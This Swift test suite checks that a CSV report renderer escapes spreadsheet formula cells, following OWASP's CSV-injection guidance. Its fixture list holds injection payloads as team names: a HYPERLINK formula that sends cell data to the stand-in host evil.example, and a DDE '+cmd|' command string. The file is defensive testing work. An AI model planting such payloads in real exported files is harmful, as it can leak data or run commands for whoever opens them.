import Foundation
import OrgHealthKit
import OrgHealthRendering
import Testing

@Suite("CSV report: tidy figures, plain numbers, no formula runs")
struct CSVRendererTests {
    /// Cells a spreadsheet would run as formulas (the OWASP "CSV Injection" set: leading `=`,
    /// `+`, `-`, `@`, tab, carriage return), as team names and a metric id.
    static let formulaNames = [
        "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")", "+1+cmd|'/c calc'!A1", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1",
    ]

    /// The hostile report with one planted metric per formula-looking team name.
    static func plantedReport() throws -> HealthReport {
        var report = try ReportFixtures.hostileReport()
        for name in formulaNames {
            var metric = Metric(id: "test.share", scope: .team(name), value: -0.25, unit: .ratio, n: 9)
            metric.trend = -0.125
            metric.significant = true
            report.analyzers[0].result.metrics.append(metric)
        }
        report.analyzers[0].result.metrics.append(Metric(id: "=cmd()", scope: .org, value: 3, unit: .count, n: 40))
        return report
    }

    /// The CSV, read back with the project's own RFC 4180 reader.
    static func records(_ report: HealthReport) throws -> [[String]] {
        var reader = CSVReader(bytes: try CSVRenderer().render(report), source: "health-report.csv")
        return try reader.readAll().map(\.fields)
    }

    @Test("the header is the documented one and every row has its nine cells")
    func shape() async throws {
        let rows = try Self.records(try Self.plantedReport())
        #expect(rows.first == ["analyzer", "metric", "scope_kind", "scope", "value", "n", "suppressed_reason", "change", "significant"])
        #expect(rows.count > 10)
        for row in rows { #expect(row.count == 9, "\(row)") }
    }

    @Test("no cell starts with a formula character unless it is a plain number")
    func formulaCellsEscaped() async throws {
        let rows = try Self.records(try Self.plantedReport())
        for row in rows.dropFirst() {
            for (column, cell) in row.enumerated() {
                guard let first = cell.unicodeScalars.first, ["=", "+", "-", "@", "\t", "\r"].contains(first) else { continue }
                // Only value and change (columns 4 and 7) may start with "-", and only as a number.
                #expect([4, 7].contains(column) && Double(cell) != nil, "unescaped formula cell \(cell.debugDescription) in \(row)")
            }
        }
        // Each planted name comes back once, with the one-character "'" marker in front, otherwise intact.
        for name in Self.formulaNames {
            #expect(rows.filter { $0[3] == "'" + name }.count == 1, "\(name.debugDescription) not escaped exactly once")
        }
        #expect(rows.contains { $0[1] == "'=cmd()" })
    }

    @Test("thousands of figures, built in pieces on every core, come back in order and escaped as one by one")
    func manyFiguresInOrder() async throws {
        // Names that take every path of a cell: plain, quoted (comma, quote, LF, CR), a formula
        // marker (a leading "=", "-" or CR LF, which is one Character), non-ASCII, combining marks.
        let names = ["plain", "a,b", "say \"hi\"", "line\nbreak", "\r\nlead", "=x", "é=", "x\u{301}", "-5", "Zürich, CH"]
        var report = try ReportFixtures.hostileReport()
        report.analyzers[0].result.metrics = (0..<3_000).map { index in
            Metric(id: "test.count", scope: .team(names[index % names.count]), value: Double(index) / 7, unit: .count, n: index)
        }
        let rows = try Self.records(report)
        let figures = rows.dropFirst().prefix { $0[0] != CSVRenderer.healthModel && $0[0] == report.analyzers[0].descriptor.id }
        #expect(figures.count == 3_000)
        for (index, row) in figures.enumerated() {
            let name = names[index % names.count]
            // The spec, worked out here: a formula leader (as a Character) gets a "'" in front.
            let leads = name.first.map { ["=", "+", "-", "@", "\t", "\r"].contains($0) } ?? false
            #expect(row[3] == (leads ? "'" + name : name), "row \(index): \(row[3].debugDescription)")
            #expect(row[5] == String(index))
            #expect(Double(row[4]) == Double(index) / 7)
        }
    }

    @Test("values are plain numbers: ratios unrounded, negative numbers bare, significance as true/false")
    func plainNumbers() async throws {
        let rows = try Self.records(try Self.plantedReport())
        let planted = try #require(rows.first { $0[3] == "'-2+3" })
        // Planted above: value −0.25, n 9, change −0.125, significant.
        #expect(Array(planted[4...8]) == ["-0.25", "9", "", "-0.125", "true"])
        #expect(planted[2] == "team")
    }

    @Test("a withheld figure has an empty value and its reason")
    func suppressed() async throws {
        let rows = try Self.records(try ReportFixtures.hostileReport())
        // Team "Tiny" has 3 people (ReportFixtures), under the default minimum group of 5.
        let tiny = rows.filter { $0[3] == "Tiny" && $0[0] != CSVRenderer.healthModel }
        #expect(!tiny.isEmpty)
        for row in tiny {
            #expect(row[4] == "", "a value of team Tiny is shown: \(row)")
            #expect(row[6] == SuppressionReason.minGroupSize.rawValue, "\(row)")
        }
    }

    @Test("the health model's index and dimension scores are rows too")
    func healthModelRows() async throws {
        let report = try ReportFixtures.hostileReport()
        let rows = try Self.records(report)
        let index = try #require(rows.first { $0[0] == CSVRenderer.healthModel && $0[1] == "health.index" && $0[2] == "org" })
        #expect(index[5] == String(report.summary.headcount))
    }
}
